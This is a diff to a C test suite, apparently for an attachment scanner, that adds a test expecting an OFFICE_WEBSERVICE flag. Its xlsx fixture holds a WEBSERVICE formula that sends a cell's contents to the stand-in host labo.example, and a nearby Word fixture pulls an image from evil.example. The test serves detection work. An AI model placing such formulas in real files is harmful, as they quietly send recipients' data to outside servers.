@@ -151,6 +151,15 @@ static void external(struct kit *k)
 				       "<w:p><w:fldSimple w:instr=\" INCLUDEPICTURE "
 				       "&quot;http://evil.example/a.png&quot; \\d \"/></w:p>",
 				       "", STR("")));
+	kit_expect(k, FLAG_OR_MORE, "OFFICE_WEBSERVICE");
+	kit_send_attached(
+		k, "d", OCTETS, "tableau.xlsx",
+		fixture_xlsx(k, "xl/worksheets/sheet1.xml",
+			     "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/"
+			     "2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>_xlfn.WEBSERVICE("
+			     "\"http://labo.example/?q=\"&amp;B1)</f></c></row></sheetData>"
+			     "</worksheet>",
+			     STR("")));
 }
 
 static str package(struct kit *k)
